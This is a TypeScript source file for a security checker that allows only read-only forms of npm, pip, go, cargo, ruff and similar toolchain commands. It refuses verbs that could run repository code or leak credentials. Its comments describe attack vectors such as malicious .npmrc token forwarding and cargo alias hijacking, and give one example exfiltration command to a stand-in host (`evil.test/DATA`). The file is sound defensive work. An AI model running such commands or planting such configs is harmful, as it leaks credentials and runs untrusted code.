// Why: language toolchains read repository files that can carry code, so only verbs that never
// load such code are provable here. What is refused, and why (each is attacker-writable):
// - cargo tree/metadata/pkgid/verify-project/read-manifest/search only where no repository
//   `.cargo/config(.toml)` exists from the cwd up to `/` (toolchain-file.ts): such a file can name
//   `build.rustc`/`rustc-wrapper` or a credential provider (`cargo:token-from-stdout CMD`), and these
//   verbs ask rustc for target info or reach a registry. tree and metadata (without --no-deps) only
//   with --locked/--frozen: resolving rewrites a missing or stale Cargo.lock. `cargo info` is left out
//   (it may resolve the workspace). build/check/clippy/test/doc run build.rs and proc macros: only
//   their `--help` (builtin names only: b/c/d/r/t and the external clippy/fmt are names a repository
//   `[alias]` redefines, `clippy = "run --"`). fmt is left out (rustfmt prints every file it walks; --check is not a walk check).
// - go vet/build/test: cgo runs the C compiler over repository sources (an `#include` of a secret
//   prints it in the error); go generate/run/test run code. go list/doc/mod graph/why only read,
//   and go list without -u/-versions/PATH@VERSION (a lookup that reaches a host the command names).
// - yarn and pnpm, even `--version`: `.yarnrc.yml` `yarnPath`/plugins and the package.json
//   `packageManager` field (corepack may fetch and run it from a URL) make any call run repo code;
//   pnpm also loads `.pnpmfile.cjs`. bun stays version-only (read-only.ts).
// - npm anything where a project .npmrc exists from the cwd up, or with --prefix or bundled short
//   options (`-wC` is `-w -C`, `-C` is --prefix): see toolchain-file.ts. The verbs that print package
//   files, where one is a symlink or npm's project is not the repository's (npm-files.ts); registry
//   reads of a spec that is not a registry name (`file:DIR`, a URL, a git or `user/repo` spec).
// - npm run SCRIPT/exec/test/outdated/doctor/pack/diff/find-dupes: scripts come from package.json;
//   outdated, doctor, diff and find-dupes may resolve git dependencies with the `git` the project's
//   .npmrc names. docs/home/bugs/repo open a browser. token list is left out (it is about credentials).
//   Registry reads (view, search, audit, ping, access, dist-tag, profile, stars, whoami, owner) only
//   where no project .npmrc exists from the cwd up (toolchain-file.ts): it can set `registry=` to any
//   host and `//host/:_authToken=${ANY_ENV}`, which npm expands and sends there.
// - pip config list/get/debug: an index URL in the config can carry a token. pip index with
//   --index-url: a request to a host the command names.
// - uv beyond its own version/dirs: uv finds the repository's `.venv` and runs its python to learn
//   about the interpreter (a `.venv/bin/python` shipped in the repo is code); run/sync/lock/tree build.
// - eslint, prettier, mypy, pytest: their configuration or plugins are JavaScript/Python.
// - ruff check without --fix, and only where no config file ruff reads names fix/fix-only/cache-dir/
//   extend (ruff-config.ts); --cache-dir and -o/--output-file write elsewhere; ruff format not at all;
//   black/isort only in check/diff mode and where no config of theirs is found (ruff-config.ts).
import { aliases, type Check, checkTool, type Tool, type Verb } from "./spec.ts";

const NPM_COMMON = {
  flags: [
    "-h",
    "--help",
    "--json",
    "-g",
    "--global",
    "--silent",
    "-s",
    "-q",
    "--quiet",
    "--no-color",
    "--color",
    "--unicode",
    "--long",
    "-l",
    "-p",
    "--parseable",
    "--workspaces",
    "-ws",
    "--include-workspace-root",
  ],
  // No --prefix: npm then reads the .npmrc of that directory (toolchain-file.ts checks the cwd and up).
  valued: ["-w", "--workspace", "--loglevel", "--omit", "--include", "--color"],
};
const NPM_LS: Verb = {
  flags: ["-a", "--all", "--link", "--production", "--dev", "--package-lock-only", "--expect-results"],
  valued: ["--depth"],
};
/**
 * A registry package spec (`lodash`, `lodash@4`, `@scope/pkg@latest`): anything else is fetched from
 * where it says — `file:DIR` / a path prints another directory's package.json, `https://HOST/x.tgz`
 * asks that host, and `git+ssh://HOST/…`, `github:u/r` or the `user/repo` shorthand run git (over ssh to
 * the host the spec names, which may receive a forwarded agent).
 */
const npmRegistrySpec = (w: string): boolean =>
  !/[:\\]/.test(w) && !/^[.~/]/.test(w) && !/\.(tgz|tar)(\.gz)?$/i.test(w) && /^(@[^/@]+\/)?[^/@]+(@[^/]*)?$/.test(w);
/** The first operand of a registry read is a package spec. */
const registrySpecFirst = (w: string[]): string | null =>
  w[0] === undefined || npmRegistrySpec(w[0]) ? null : `npm fetches ${w[0]} from where it says, not the registry`;
const NPM_VIEW: Verb = { maxArgs: 8, last: registrySpecFirst };
const npmConfigKey = (w: string[]) =>
  w.length === 1 && /^[a-z][a-z-]*$/.test(w[0] as string) && !/auth|token|pass|cert|key|email|otp/.test(w[0] as string)
    ? null
    : "npm config get: only a plain, non-credential key";

/**
 * nopt reads `-wC` as `-w -C` (every letter a shorthand, `-C` is --prefix), where the table would read a
 * glued `-w` value: only single letters and the one multi-letter shorthand listed (`-ws`).
 */
const npmBundle = (args: string[]): string | null => {
  const end = args.indexOf("--");
  // `-w=-C`: nopt splits at `=` and may read the value as an option again.
  const bundle = (end === -1 ? args : args.slice(0, end)).find(
    (a) => (/^-[^-=]{2,}/.test(a) && a !== "-ws") || /^-[^=]*=-/.test(a),
  );
  return bundle === undefined ? null : `npm reads ${bundle} as several shorthand options`;
};

const NPM: Tool = {
  global: NPM_COMMON,
  verbs: {
    "": { flags: ["-v", "--version"], maxArgs: 0 },
    version: { maxArgs: 0 },
    ...aliases(["ls", "list", "ll", "la"], NPM_LS),
    ...aliases(["view", "info", "show", "v"], NPM_VIEW),
    ...aliases(["why", "explain"], {}),
    audit: {
      flags: ["--production", "--dev", "--package-lock-only", "--omit-dev"],
      valued: ["--audit-level"],
      maxArgs: 0,
    },
    "audit signatures": { maxArgs: 0 },
    ...aliases(["search", "s", "find"], { flags: ["--no-description"], valued: ["--searchlimit"] }),
    ...aliases(["prefix", "root", "bin"], { maxArgs: 0 }),
    fund: { maxArgs: 1 },
    ping: { maxArgs: 0 },
    query: { maxArgs: 1 },
    ...aliases(["owner ls", "owner list"], { maxArgs: 1, last: registrySpecFirst }),
    ...aliases(["config list", "config ls", "c list", "c ls"], { maxArgs: 0 }),
    ...aliases(["config get", "c get", "get"], { last: npmConfigKey }),
    help: { maxArgs: 2 },
    "help-search": { maxArgs: 3 },
    "pkg get": {},
    // Without a script name npm only lists the scripts (`--list` is read as a config, not a script).
    ...aliases(["run", "run-script"], { flags: ["--list"], maxArgs: 0 }),
    sbom: { valued: ["--sbom-format", "--sbom-type"], flags: ["--package-lock-only"], maxArgs: 0 },
    completion: { maxArgs: 0 },
    // Registry reads: toolchain-file.ts refuses them where a project .npmrc exists (it can point the
    // registry elsewhere and hand it `${ENV}` values as a token).
    ...aliases(["access list packages", "access ls packages"], { maxArgs: 1 }),
    ...aliases(["access list collaborators", "access ls collaborators"], { maxArgs: 2, last: registrySpecFirst }),
    "access get status": { maxArgs: 1, last: registrySpecFirst },
    ...aliases(["dist-tag ls", "dist-tag list", "dist-tags ls"], { maxArgs: 1, last: registrySpecFirst }),
    "profile get": { maxArgs: 1 },
    stars: { maxArgs: 1 },
    whoami: { maxArgs: 0 },
  },
};

const PIP: Tool = {
  global: {
    flags: [
      "-h",
      "--help",
      "-q",
      "--quiet",
      "-v",
      "--verbose",
      "--no-color",
      "--disable-pip-version-check",
      "--isolated",
      "--no-input",
    ],
  },
  verbs: {
    "": { flags: ["-V", "--version"], maxArgs: 0 },
    list: {
      flags: [
        "-o",
        "--outdated",
        "-u",
        "--uptodate",
        "-e",
        "--editable",
        "-l",
        "--local",
        "--user",
        "--not-required",
        "--pre",
        "--include-editable",
        "--exclude-editable",
      ],
      valued: ["--format", "--path", "--exclude"],
    },
    freeze: {
      flags: ["-l", "--local", "--user", "--all", "--exclude-editable"],
      valued: ["--path", "--exclude"],
      maxArgs: 0,
    },
    show: { flags: ["-f", "--files"] },
    check: { maxArgs: 0 },
    inspect: { flags: ["--local", "--user"], valued: ["--path"], maxArgs: 0 },
    // Reads the files it hashes (paths are checked like any other argument).
    hash: { valued: ["-a", "--algorithm"] },
    // No --index-url / --extra-index-url: a request to a host the command names.
    "index versions": {
      flags: ["--pre"],
      valued: ["--platform", "--python-version", "--implementation", "--abi"],
      maxArgs: 1,
    },
    "cache dir": { maxArgs: 0 },
    "cache info": { maxArgs: 0 },
    ...aliases(["cache list", "cache ls"], { valued: ["--format"], maxArgs: 1 }),
    debug: { flags: ["--verbose", "-v"], maxArgs: 0 },
    search: {},
    help: { maxArgs: 1 },
  },
};

const UV: Tool = {
  global: { flags: ["-h", "--help", "-q", "--quiet", "--no-color", "--offline", "--no-progress"] },
  verbs: {
    "": { flags: ["-V", "--version"], maxArgs: 0 },
    "self version": { flags: ["--short"], valued: ["--output-format"], maxArgs: 0 },
    help: { maxArgs: 3 },
    "cache dir": { maxArgs: 0 },
    "python dir": { maxArgs: 0 },
  },
};

const RUFF_SELECT = [
  "--select",
  "--ignore",
  "--extend-select",
  "--extend-ignore",
  "--per-file-ignores",
  "--extend-per-file-ignores",
  "--fixable",
  "--unfixable",
  "--exclude",
  "--extend-exclude",
  "--target-version",
  "--line-length",
  "--output-format",
  "--config",
  "--stdin-filename",
];
const RUFF_CHECK: Verb = {
  flags: [
    "--no-fix",
    "--diff",
    "--show-fixes",
    "--no-show-fixes",
    "--unsafe-fixes",
    "--no-unsafe-fixes",
    "--statistics",
    "--preview",
    "--no-preview",
    "--exit-zero",
    "-e",
    "--exit-non-zero-on-fix",
    "-n",
    "--no-cache",
    "--respect-gitignore",
    "--no-respect-gitignore",
    "--force-exclude",
    "--no-force-exclude",
    "--show-files",
    "--show-settings",
    "-q",
    "--quiet",
    "-s",
    "--silent",
    "-v",
    "--verbose",
  ],
  valued: RUFF_SELECT,
  // `--config` may also be an inline `key = value` override: `fix = true` would write.
  value: (o, v) => (o === "--config" && /fix/.test(v) ? "ruff --config override touches fixing" : null),
  // `fix`/`fix-only` in a config file would make a plain `ruff check` write: ruff-config.ts refuses
  // any config that names them, so only the command line's own --fix is left to refuse here.
  last: (_w, args) => (args.includes("--fix") && !args.includes("--diff") ? "ruff --fix writes" : null),
};
const RUFF: Tool = {
  global: { flags: ["-h", "--help"] },
  verbs: {
    "": { flags: ["-V", "--version"], maxArgs: 0 },
    version: { valued: ["--output-format"], maxArgs: 0 },
    help: { maxArgs: 1 },
    ...aliases(["check", "lint"], RUFF_CHECK),
    rule: { flags: ["--all"], valued: ["--output-format"], maxArgs: 1 },
    linter: { valued: ["--output-format"], maxArgs: 0 },
    config: { maxArgs: 1 },
  },
};

const checkOnly =
  (modes: string[], valued: string[], flags: string[]): Check =>
  (args) => {
    if (args.length && args.every((a) => /^(--version|--help|-h|-V)$/.test(a))) return null;
    return checkTool(
      {
        verbs: {
          "": {
            flags: [...modes, ...flags],
            valued,
            last: (_w, a) => (a.some((x) => modes.includes(x)) ? null : `writes files without ${modes.join(" or ")}`),
          },
        },
      },
      args,
    );
  };

const black = checkOnly(
  ["--check", "--diff"],
  [
    "-l",
    "--line-length",
    "-t",
    "--target-version",
    "--include",
    "--exclude",
    "--extend-exclude",
    "--force-exclude",
    "--config",
    "--required-version",
    "-W",
    "--workers",
  ],
  [
    "--color",
    "--no-color",
    "-q",
    "--quiet",
    "-v",
    "--verbose",
    "-S",
    "--skip-string-normalization",
    "-C",
    "--skip-magic-trailing-comma",
    "--preview",
    "--fast",
    "--safe",
    "--pyi",
    "--ipynb",
  ],
);
// isort 5's -d/--stdout prints the sorted files instead of writing them back.
const isort = checkOnly(
  ["--check-only", "-c", "--check", "--diff", "--df", "-d", "--stdout"],
  ["-l", "--line-length", "--profile", "--settings-path", "--sp", "--skip", "-s", "-p", "--project"],
  ["--color", "-q", "--quiet", "-v", "--verbose", "--filter-files", "--only-modified"],
);

// No -u / -versions / -retracted, and no `path@version` word: those ask the module proxy, and for a
// path it does not know (404) the default GOPROXY (`…,direct`) asks the path's own host — a request to
// a host the command names, carrying what the command put in the path (`go list -m -versions
// evil.test/DATA`). Without them, a module or package outside the build list is an error, not a lookup.
const GO_BUILD_FLAGS = {
  flags: ["-e", "-json", "-m", "-deps", "-test", "-find"],
  valued: ["-f", "-tags", "-mod"],
};
const noVersionQuery = (words: string[]): string | null =>
  words.some((w) => w.includes("@")) ? "a path@version word is looked up on the module proxy or its host" : null;
const GO: Tool = {
  global: { flags: ["-h", "-help", "--help"] },
  singleDash: true,
  verbs: {
    version: { flags: ["-m", "-v"] },
    env: {
      flags: ["-json", "-changed"],
      last: (w) => (w.length > 0 ? null : "go env without names prints GOAUTH/GOPROXY credentials"),
    },
    list: {
      ...GO_BUILD_FLAGS,
      // -mod=mod may rewrite go.mod; -compiled/-export run cgo and the compiler; -toolexec/-exec run a program.
      value: (o, v) => (o === "-mod" && v !== "readonly" && v !== "vendor" ? `-mod=${v} may rewrite go.mod` : null),
      last: noVersionQuery,
    },
    "mod graph": { valued: ["-go"], maxArgs: 0 },
    "mod why": { flags: ["-m", "-vendor"], last: noVersionQuery },
    "mod verify": { maxArgs: 0 },
    help: { maxArgs: 2 },
  },
};

const gofmt = checkOnly(["-l", "-d"], [], ["-s", "-e"]);

const CARGO_FEATURES = { flags: ["--all-features", "--no-default-features"], valued: ["-F", "--features"] };
const CARGO_WS = {
  flags: ["--workspace", "--offline", "--locked", "--frozen", ...CARGO_FEATURES.flags],
  valued: ["--manifest-path", "-p", "--package", "--exclude", "--color", ...CARGO_FEATURES.valued],
};
/** Resolving the graph writes Cargo.lock when it is missing or stale: only with --locked/--frozen. */
const lockedOnly = (_w: string[], args: string[]) =>
  args.includes("--locked") || args.includes("--frozen") ? null : "cargo may rewrite Cargo.lock without --locked";
/**
 * Builtin verbs whose `--help` clap prints before anything runs (an unknown verb is a `cargo-*` program).
 * Not the one-letter b/c/d/r/t: they are aliases, not clap subcommands, and cargo looks up `[alias]` in
 * the repository's .cargo/config.toml first (`b = "run --"` makes `cargo b --help` run the project).
 * Not clippy or fmt either: they are the external cargo-clippy / cargo-fmt, which an alias also beats.
 */
const CARGO_HELP_VERBS = [
  "add",
  "bench",
  "build",
  "check",
  "clean",
  "doc",
  "fetch",
  "fix",
  "generate-lockfile",
  "init",
  "install",
  "login",
  "logout",
  "new",
  "owner",
  "package",
  "publish",
  "remove",
  "report",
  "run",
  "rustc",
  "rustdoc",
  "test",
  "uninstall",
  "update",
  "vendor",
  "yank",
];
/** Names clap answers itself under `cargo help` (the help-only verbs and the table's own). */
const CARGO_BUILTIN = new Set([
  ...CARGO_HELP_VERBS,
  "help",
  "version",
  "locate-project",
  "read-manifest",
  "verify-project",
  "pkgid",
  "metadata",
  "tree",
  "search",
]);
const cargoHelpOnly: Verb = {
  maxArgs: 0,
  last: (_w, args) => (args.includes("--help") || args.includes("-h") ? null : "only the verb's --help is provable"),
};

const CARGO: Tool = {
  global: { flags: ["-h", "--help", "-q", "--quiet"] },
  verbs: {
    ...Object.fromEntries(CARGO_HELP_VERBS.map((v) => [v, cargoHelpOnly])),
    "": { flags: ["-V", "--version", "--list", "-v", "--verbose"], maxArgs: 0 },
    version: { flags: ["-v", "--verbose"], maxArgs: 0 },
    // `cargo help X` runs `cargo-X --help` for a name that is not a builtin (and for a builtin name a
    // repository `[alias]` maps to one word: toolchain-file.ts refuses it where such a config exists).
    help: {
      maxArgs: 1,
      last: (w) =>
        w.length === 0 || CARGO_BUILTIN.has(w[0] as string) ? null : `cargo help ${w[0]} runs cargo-${w[0]} --help`,
    },
    "locate-project": { flags: ["--workspace"], valued: ["--message-format", "--manifest-path"], maxArgs: 0 },
    // toolchain-file.ts refuses these where a repository .cargo/config(.toml) exists.
    "read-manifest": { valued: ["--manifest-path"], maxArgs: 0 },
    "verify-project": { valued: ["--manifest-path"], flags: ["--offline", "--locked", "--frozen"], maxArgs: 0 },
    // Reads Cargo.lock and fails without it.
    pkgid: { ...CARGO_WS, maxArgs: 1 },
    metadata: {
      flags: ["--no-deps", ...CARGO_WS.flags],
      valued: ["--format-version", "--filter-platform", ...CARGO_WS.valued],
      maxArgs: 0,
      last: (w, args) => (args.includes("--no-deps") ? null : lockedOnly(w, args)),
    },
    tree: {
      flags: ["-d", "--duplicates", "--no-dedupe", "-a", "--all", "--all-targets", ...CARGO_WS.flags],
      valued: [
        "-i",
        "--invert",
        "--depth",
        "-e",
        "--edges",
        "--prefix",
        "--charset",
        "-f",
        "--format",
        "--target",
        "--prune",
        ...CARGO_WS.valued,
      ],
      maxArgs: 0,
      last: lockedOnly,
    },
    // A read of the registry's search API (crates.io: no repository config may name another one).
    search: { valued: ["--limit", "--color"], maxArgs: 3 },
  },
};

const refuse =
  (why: string): Check =>
  () =>
    why;

export const LANGUAGES: Record<string, Check> = {
  npm: (args) => npmBundle(args) ?? checkTool(NPM, args),
  yarn: refuse("yarn runs the repository's yarnPath, plugins or packageManager pin on any command"),
  pnpm: refuse("pnpm loads .pnpmfile.cjs and may run the packageManager pin from package.json"),
  pip: (args) => checkTool(PIP, args),
  pip3: (args) => checkTool(PIP, args),
  uv: (args) => checkTool(UV, args),
  ruff: (args) => checkTool(RUFF, args),
  black,
  isort,
  go: (args) => checkTool(GO, args),
  gofmt,
  cargo: (args) => checkTool(CARGO, args),
};
